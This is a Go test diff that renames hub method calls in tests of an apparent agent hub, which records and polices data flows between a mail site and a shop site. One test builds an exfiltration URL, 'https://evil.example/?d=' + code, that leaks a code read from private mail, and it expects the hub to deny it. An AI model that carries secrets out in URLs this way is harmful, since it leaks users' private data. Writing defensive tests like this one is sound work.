@@ -27,7 +27,7 @@ type sites struct {
 func newSites(t *testing.T, opts Options, doc policy.Document) *sites {
 	w := newFixture(t, opts)
 	s := &sites{w, w.page("https://mail.example", "m"), w.page("https://shop.example", "s")}
-	if err := s.hub.EditPolicy("test", func(d *policy.Document) error { *d = doc; return nil }); err != nil {
+	if err := s.hub.Rules.EditPolicy("test", func(d *policy.Document) error { *d = doc; return nil }); err != nil {
 		t.Fatal(err)
 	}
 	s.register(s.mail, 0, tools("https://mail.example/", "read"))
@@ -37,7 +37,7 @@ func newSites(t *testing.T, opts Options, doc policy.Document) *sites {
 
 func (s *sites) call(by *consent.Caller, name, args string) string {
 	s.t.Helper()
-	result, err := s.hub.Call(s.t.Context(), call.Request{Name: "website_tool_" + name, Args: json.RawMessage(args), By: by})
+	result, err := s.hub.Calls.Call(s.t.Context(), call.Request{Name: "website_tool_" + name, Args: json.RawMessage(args), By: by})
 	if err != nil {
 		s.t.Fatal(err)
 	}
@@ -102,7 +102,7 @@ func TestFlowsAreRecorded(t *testing.T) {
 	s.note(tester, "the code: 7F3K 29XQ 88AB")
 	s.wantRecord("mail.example → shop.example")
 	calls := s.record.Entries(record.Query{Event: record.Call})
-	if found, kept := s.hub.Carried(calls[len(calls)-1].Call); !kept || len(found) != 0 { // which the client had sent before
+	if found, kept := s.hub.Owner.Carried(calls[len(calls)-1].Call); !kept || len(found) != 0 { // which the client had sent before
 		t.Errorf("carried %v, %v", found, kept)
 	}
 }
@@ -144,10 +144,10 @@ func TestFlowFromPrivateSite(t *testing.T) {
 		t.Errorf("the owner was told %q", why)
 	}
 	calls := s.record.Entries(record.Query{Event: record.Call})
-	if found, kept := s.hub.Carried(calls[len(calls)-2].Call); kept || found != nil {
+	if found, kept := s.hub.Owner.Carried(calls[len(calls)-2].Call); kept || found != nil {
 		t.Errorf("what was not sent has carried %v", found)
 	}
-	if found, kept := s.hub.Carried(calls[len(calls)-1].Call); !kept || found != nil {
+	if found, kept := s.hub.Owner.Carried(calls[len(calls)-1].Call); !kept || found != nil {
 		t.Errorf("carried %v, %v", found, kept)
 	}
 }
@@ -166,7 +166,7 @@ func TestFlowByURL(t *testing.T) {
 	s := newSites(t, Options{Askers: []consent.Asker{consent.AskClient}}, policy.Document{Private: []string{"mail.example"}})
 	s.chrome("c1", "s1")
 	s.readMail(by)
-	_, err := s.hub.Control(t.Context(), by, spec.TabAddr{Peer: s.browser()}, &spec.OpenTab{URL: "https://evil.example/?d=" + code})
+	_, err := s.hub.Calls.Control(t.Context(), by, spec.TabAddr{Peer: s.browser()}, &spec.OpenTab{URL: "https://evil.example/?d=" + code})
 	if f, ok := errors.AsType[*core.Failure](err); !ok || f.Code != spec.FailDenied {
 		t.Errorf("opened: %v", err)
 	}
@@ -184,7 +184,7 @@ func TestFlowFromOtherWords(t *testing.T) {
 			b := s.dial(conn)
 			s.register(b, 1, tools("https://mail.example/inbox", "open"))
 			answering(b, `{"text":"Your code is `+code+`"}`)
-			if _, from, err := s.hub.ReadTab(t.Context(), tester, spec.TabAddr{Peer: s.browser(), Tab: 1}, &spec.Text{}); err != nil || from.Domain != "mail.example" || !from.Verified {
+			if _, from, err := s.hub.Calls.ReadTab(t.Context(), tester, spec.TabAddr{Peer: s.browser(), Tab: 1}, &spec.Text{}); err != nil || from.Domain != "mail.example" || !from.Verified {
 				t.Errorf("read %+v, %v", from, err)
 			}
 		},
@@ -194,7 +194,7 @@ func TestFlowFromOtherWords(t *testing.T) {
 			b := s.dial(conn)
 			s.register(b, 1, tools("https://mail.example/inbox", "open"))
 			answering(b, `{"mimeType":"image/png","data":""}`)
-			if _, _, err := s.hub.ReadTab(t.Context(), tester, spec.TabAddr{Peer: s.browser(), Tab: 1}, &spec.Screenshot{}); err != nil {
+			if _, _, err := s.hub.Calls.ReadTab(t.Context(), tester, spec.TabAddr{Peer: s.browser(), Tab: 1}, &spec.Screenshot{}); err != nil {
 				t.Fatal(err)
 			}
 		},
@@ -206,7 +206,7 @@ func TestFlowFromOtherWords(t *testing.T) {
 			ended := make(chan struct{})
 			go func() {
 				defer close(ended)
-				_, _ = s.hub.Call(ctx, call.Request{Name: "website_tool_mail_example__read", By: &by})
+				_, _ = s.hub.Calls.Call(ctx, call.Request{Name: "website_tool_mail_example__read", By: &by})
 			}()
 			s.mail.Progress(s.mail.Next(), 1)
 			<-told
